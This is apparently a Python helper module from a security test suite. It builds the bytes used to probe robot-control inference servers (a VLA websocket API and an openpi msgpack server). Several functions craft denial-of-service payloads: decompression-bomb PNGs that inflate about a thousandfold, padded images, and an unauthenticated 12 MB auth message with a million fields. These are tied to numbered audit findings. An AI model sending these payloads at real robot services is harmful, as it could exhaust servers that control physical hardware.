"""The bytes the attacks send: PNGs written with zlib (no image library needed), openpi msgpack observations in
msgpack_numpy's convention, and JSON messages."""
from __future__ import annotations

import base64
import json
import struct
import zlib

import msgpack


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width: int, height: int, depth: int = 8, colour: int = 2, row: bytes | None = None) -> bytes:
    """A PNG whose rows are all ``row`` (zeros by default), compressed row by row: a 5000 × 5000 16-bit RGBA image of
    zeros is ~200 KB on the wire and 200 MB decoded (issue 11, finding 4)."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[colour]
    stride = width * channels * depth // 8
    line = b"\x00" + (row if row is not None else bytes(stride))
    z = zlib.compressobj(9)
    parts = [z.compress(line) for _ in range(height)]
    parts.append(z.flush())
    ihdr = struct.pack("!IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", b"".join(parts)) + _chunk(b"IEND", b"")


def gradient_png(width: int = 96, height: int = 96) -> bytes:
    """A small RGB gradient: the healthy client's camera frame."""
    z = zlib.compressobj(6)
    parts = []
    for y in range(height):
        row = bytes(v for x in range(width) for v in ((x * 255) // width, (y * 255) // height, 128))
        parts.append(z.compress(b"\x00" + row))
    parts.append(z.flush())
    ihdr = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", b"".join(parts)) + _chunk(b"IEND", b"")


def padded_png(total_bytes: int) -> bytes:
    """The healthy client's small PNG grown to ``total_bytes`` with a private ancillary chunk that decoders skip: as
    large an image as a byte budget allows, yet cheap to decode, so its cost is the message's size alone."""
    small = gradient_png()
    iend = small[-12:]
    pad = max(0, total_bytes - len(small) - 12)
    return small[:-12] + _chunk(b"prVt", bytes(pad)) + iend


def data_url(image: bytes) -> str:
    """The ``image`` field of a VLA frame."""
    return "data:image/png;base64," + base64.b64encode(image).decode("ascii")


def vla_auth(api_key: str | None, fps: float = 10) -> str:
    """The VLA ``auth`` message."""
    msg = {"type": "auth", "target_fps": fps, "model": "openvla-7b", "robot_type": "franka_panda"}
    if api_key is not None:
        msg["api_key"] = api_key
    return json.dumps(msg)


def vla_frame(image: bytes, frame_id: int, state_dim: int = 6) -> str:
    """One VLA ``frame`` message carrying its own ``frame_id``."""
    return json.dumps({"type": "frame", "image": data_url(image), "instruction": "pick up the cube",
                       "frame_id": frame_id, "robot_state": {"pose": [0.1] * state_dim,
                                                            "velocity": [0.0] * state_dim}})


def huge_auth(fields: int = 1_000_000) -> bytes:
    """A ~12 MB ``auth`` message with a million fields (finding 2): no key is needed to send it."""
    body = ",".join(f'"f{i}":{i}' for i in range(fields))
    return ('{"type":"auth",' + body + "}").encode()


def ndarray(dtype: str, shape: list[int], data: bytes) -> dict:
    """msgpack_numpy's map for an array."""
    return {b"__ndarray__": True, b"data": data, b"dtype": dtype, b"shape": shape}


def openpi_observation(image_hw: int = 96, state: int = 8, extra: dict | None = None) -> bytes:
    """A valid openpi observation for the standalone server's metadata (image ``|u1 [H, W, 3]``, state ``<f4``)."""
    obs = {"observation/image": ndarray("|u1", [image_hw, image_hw, 3], bytes(image_hw * image_hw * 3)),
           "observation/state": ndarray("<f4", [state], bytes(4 * state)), "prompt": "pick up the fork"}
    obs.update(extra or {})
    return msgpack.packb(obs, use_bin_type=True)


def msgpack_pack(obj) -> bytes:
    """msgpack with bin types, as openpi's client packs."""
    return msgpack.packb(obj, use_bin_type=True)


def msgpack_unpack(data: bytes):
    """Unpacks a reply (metadata or actions)."""
    return msgpack.unpackb(data, raw=False, strict_map_key=False)
